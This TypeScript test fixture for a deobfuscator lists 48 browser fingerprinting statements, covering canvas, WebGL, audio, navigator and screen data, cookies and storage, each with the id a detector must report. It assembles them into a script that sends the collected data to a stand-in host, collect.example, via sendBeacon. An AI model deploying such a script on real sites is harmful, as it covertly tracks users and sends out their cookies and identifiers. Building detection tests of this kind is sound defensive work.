/**
 * A script for tests of the deobfuscator with one statement for each of 48 signals: what it reads, and the id under which
 * that must be reported.
 */
export const markers: readonly (readonly [code: string, id: string])[] = [
  ['out.push(navigator.userAgent)', 'user-agent'],
  ['out.push(navigator.platform)', 'platform'],
  ['out.push(navigator.vendor)', 'vendor'],
  ['out.push(navigator.languages)', 'language'],
  ['out.push(navigator.plugins.length)', 'plugins'],
  ['out.push(navigator.pdfViewerEnabled)', 'pdf-viewer'],
  ['out.push(navigator.doNotTrack)', 'do-not-track'],
  ['out.push(navigator.cookieEnabled)', 'cookies-on'],
  ['out.push(navigator.hardwareConcurrency)', 'processor'],
  ['out.push(navigator.deviceMemory)', 'memory'],
  ['out.push(navigator.maxTouchPoints)', 'touch'],
  ['out.push(navigator.webdriver)', 'webdriver'],
  ['out.push(navigator.onLine)', 'online'],
  ['out.push(navigator.connection.rtt)', 'connection'],
  ['out.push(screen.width + "x" + screen.height)', 'screen-size'],
  ['out.push(screen.availWidth)', 'screen-free'],
  ['out.push(screen.colorDepth)', 'colour-depth'],
  ['out.push(screen.orientation.type)', 'orientation'],
  ['out.push(window.devicePixelRatio)', 'pixel-ratio'],
  ['out.push(window.outerWidth)', 'window-size'],
  ['out.push(matchMedia("(prefers-color-scheme: dark)").matches)', 'media-query'],
  ['out.push(new Date().getTimezoneOffset())', 'time-zone'],
  ['out.push(performance.now())', 'clock'],
  ['out.push(performance.getEntriesByType("navigation").length)', 'load-times'],
  ['out.push(document.cookie)', 'cookies'],
  ['out.push(localStorage.getItem("id"))', 'local-storage'],
  ['out.push(sessionStorage.getItem("id"))', 'session-storage'],
  ['out.push(indexedDB.open("x"))', 'indexed-db'],
  ['out.push(document.referrer)', 'referrer'],
  ['out.push(location.href)', 'address'],
  ['out.push(history.length)', 'history'],
  ['out.push(speechSynthesis.getVoices().length)', 'voices'],
  ['out.push(document.hidden)', 'visibility'],
  ['var canvas = document.createElement("canvas"); var ctx = canvas.getContext("2d")', 'canvas-context'],
  ['ctx.fillText("Cwm fjordbank", 2, 15)', 'canvas-text'],
  ['out.push(canvas.toDataURL())', 'canvas-image'],
  ['out.push(ctx.getImageData(0, 0, 1, 1))', 'canvas-pixels'],
  ['out.push(ctx.measureText("mmm").width)', 'font-measure'],
  ['var gl = document.createElement("canvas").getContext("webgl")', 'webgl-context'],
  ['gl.getExtension("WEBGL_debug_renderer_info")', 'webgl-card'],
  ['out.push(gl.getParameter(7936))', 'webgl-parameters'],
  ['out.push(gl.getSupportedExtensions().join())', 'webgl-extensions'],
  ['var audio = new OfflineAudioContext(1, 44100, 44100)', 'audio-offline'],
  ['audio.createOscillator().start(0)', 'audio-oscillator'],
  ['out.push((await audio.startRendering()).getChannelData(0))', 'audio-samples'],
  ['out.push((await navigator.getBattery()).level)', 'battery'],
  ['out.push((await navigator.mediaDevices.enumerateDevices()).length)', 'media-devices'],
  ['out.push(new RTCPeerConnection({ iceServers: [] }))', 'webrtc'],
]

export const markedScript = `(async function () {
  var out = [];
  ${markers.map(([code]) => code).join(';\n  ')};
  navigator.sendBeacon("https://collect.example/v1", JSON.stringify(out));
})();`
